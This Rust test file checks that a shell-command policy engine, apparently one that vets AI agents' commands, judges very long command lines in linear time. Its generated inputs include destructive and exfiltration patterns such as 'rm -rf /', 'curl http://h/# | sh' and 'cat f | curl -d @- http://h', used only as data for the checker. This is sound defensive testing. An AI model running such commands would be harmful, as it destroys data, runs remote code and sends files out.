//! What a line costs grows no faster than the line. That is measured by what the process computes,
//! so that nothing else on the machine counts; this is the only test in its process.

use std::time::Duration;

use nix::time::{ClockId, clock_gettime};
use rampart_policy::{Call, PolicySet};

/// A line of about this many bytes is still parsed; less where nothing is optimised.
const LONG: usize = if cfg!(debug_assertions) { 16 << 10 } else { (1 << 20) - (4 << 10) };
/// What the longest argument list is that Linux lets through, which is split and not parsed.
const LONGEST: usize = if cfg!(debug_assertions) { LONG } else { 2 << 20 };
/// How much longer the long line is than the short one.
const TIMES: usize = 4;
/// How much more the long one may cost. What grows by the square would cost sixteen times as much,
/// and what a line costs at all makes it less than four.
const MOST: u32 = 10;
/// So often one line is measured, for the least that it costs.
const TRIES: usize = 10;
/// The stack of the threads that judge, in bytes: half of what a thread has by default.
const STACK: usize = 1 << 20;

type Line = fn(usize) -> String;

/// About `of` bytes of the text, over and over.
fn fill(of: usize, text: &str) -> String {
    text.repeat(of / text.len())
}

/// About `of` bytes of the text over and over, each with another number in place of `#`.
fn numbered(of: usize, text: &str) -> String {
    let mut line = String::with_capacity(of + text.len());
    for number in 0.. {
        if line.len() >= of {
            break;
        }
        line.push_str(&text.replace('#', &number.to_string()));
    }
    line
}

const LINES: &[(&str, Line)] = &[
    ("one word", |of| fill(of, "a")),
    ("spaces", |of| fill(of, " ")),
    ("brackets that nothing closes", |of| fill(of, "(")),
    ("tabs and spaces", |of| fill(of, " \t")),
    ("operands of rm", |of| format!("rm -rf {}", fill(of, "ab "))),
    ("deep operands of rm", |of| format!("rm -rf {}", fill(of, "/tmp/a/../b "))),
    ("slashes", |of| format!("rm -rf {}", fill(of, "/"))),
    ("dots", |of| format!("rm -rf /{}", fill(of, "../"))),
    ("quotes", |of| fill(of, "'a' ")),
    ("words of rm", |of| fill(of, "rm -rf /x ")),
    ("curl", |of| fill(of, "curl ")),
    ("stars", |of| format!("find / {}", fill(of, "*"))),
    ("near misses", |of| format!("find / {}", fill(of, "-delet"))),
    ("commands", |of| fill(of, "a;")),
    ("commands to refuse", |of| fill(of, "rm -rf x;")),
    ("a quoted script", |of| format!("sh -c '{}'", fill(of, "ls; "))),
    ("braces", |of| format!("echo {}", fill(of, "{a,b}"))),
    ("dollars", |of| fill(of, "$x ")),
    ("heredoc", |of| format!("cat <<E > f\n{}\nE\n", fill(of, "line\n"))),
    ("letters that are not ASCII", |of| fill(of, "é")),
    ("control characters", |of| fill(of, "\u{1}\u{7f}\0")),
    ("xargs input", |of| format!("echo {} | xargs rm", fill(of, "a "))),
    ("a pipeline of files", |of| format!("{}b", fill(of, "cat f | "))),
    ("a pipeline of wrapped files", |of| format!("{}b", fill(of, "sudo cat f | "))),
    ("a pipeline that hands on a text", |of| {
        format!("echo {} {}", fill(of, "a "), fill(of, "| sudo cat "))
    }),
    ("variables that are fetched", |of| fill(of, "curl h | read a; b $a;")),
    ("redirections", |of| format!("a {}", fill(of, "> f "))),
    ("files that are made", |of| fill(of, "echo a > f;")),
    ("programs that are copied", |of| fill(of, "cp a/b c; c/d;")),
    ("wildcards", |of| fill(of, "rm d/*;")),
    ("functions", |of| fill(of, "f() { a; }; f;")),
    ("many functions", |of| numbered(of, "f#() { a; }; f#;")),
    ("a pipeline that sends to one", |of| {
        format!("{}b", fill(of, "cat f | curl -d @- http://h | "))
    }),
    ("a pipeline that sends files", |of| {
        format!("{}b", numbered(of, "cat f# | curl -d @- http://h | "))
    }),
    ("a pipeline that sends files to many", |of| {
        format!("{}b", numbered(of, "cat f# | curl -d @- http://h/# | "))
    }),
    ("a pipeline of shells", |of| format!("{}b", numbered(of, "curl http://h/# | sh | "))),
    ("a pipeline of URLs", |of| format!("{}b", numbered(of, "curl http://h/# | "))),
    ("redirections to many files", |of| format!("echo a {}", numbered(of, "> f# "))),
    ("redirections of what sends", |of| format!("nc {}", fill(of, "< f "))),
    ("many files that are made", |of| numbered(of, "echo a > f#; cat f#;")),
    ("a value that doubles", |of| fill(of, "x=$x$x;")),
    ("a value that grows", |of| fill(of, "x+=b;")),
    ("a value that grows in another shell", |of| format!("({})", fill(of, "x+=b;"))),
    ("a value that is used", |of| format!("x='{}'; {}", fill(of / 2, "a "), fill(of / 2, "b $x;"))),
    ("arguments that are used", |of| {
        format!("sh -c '{}' {}", fill(of / 2, "b $@;"), fill(of / 2, "a "))
    }),
    ("a function's long body", |of| {
        format!("f() {{ {} }}; {}", fill(of / 2, "a;"), fill(of / 2, "f;"))
    }),
    ("options and operands", |of| {
        format!("rm {} {}", numbered(of / 2, "--option# "), numbered(of / 2, "f# "))
    }),
    ("many aliases", |of| numbered(of, "alias a#=b; a#;")),
    ("marks that values are put in place of", |of| {
        format!("echo {} | xargs -I{{}} rm {}", fill(of / 2, "a "), fill(of / 2, "{} "))
    }),
    ("marks of parallel", |of| {
        format!("parallel rm {} ::: {}", fill(of / 2, "{} "), fill(of / 2, "a "))
    }),
    ("assignments before commands", |of| fill(of, "A=1 b;")),
    ("redirections and operands", |of| {
        format!("A=1 ls {} {}", numbered(of / 2, "> f# "), numbered(of / 2, "a# "))
    }),
    ("folders", |of| numbered(of, "cd d#; rm f;")),
];

/// What a verdict on the line costs, in time of a processor.
fn cost(policies: &PolicySet, command: &str) -> Duration {
    let used =
        || Duration::from(clock_gettime(ClockId::CLOCK_PROCESS_CPUTIME_ID).expect("a clock"));
    let before = used();
    let cwd = Some("/home/u");
    let _ = policies.evaluate(&Call { agent: "a", session: "s", command, cwd, ..Call::default() });
    used().saturating_sub(before)
}

#[test]
fn the_longest_lines_cost_what_they_are_long() {
    let judge = || {
        let policies = PolicySet::starter();
        for (name, line) in LINES {
            let (short, long) = (line(LONG / TIMES), line(LONG));
            let (mut short_cost, mut long_cost) = (Duration::MAX, Duration::MAX);
            let fits = (0..TRIES).any(|_| {
                short_cost = short_cost.min(cost(&policies, &short));
                long_cost = long_cost.min(cost(&policies, &long));
                long_cost <= short_cost * MOST
            });
            if LONGEST > LONG {
                cost(&policies, &line(LONGEST));
            }
            println!("{short_cost:>12.2?} {long_cost:>12.2?} {name}");
            assert!(
                fits,
                "{name}: {short_cost:?} for {} bytes, {long_cost:?} for {}",
                short.len(),
                long.len()
            );
        }
    };
    let thread = std::thread::Builder::new().stack_size(STACK).spawn(judge);
    thread.expect("a thread starts").join().expect("no line panics or overflows the stack");
}
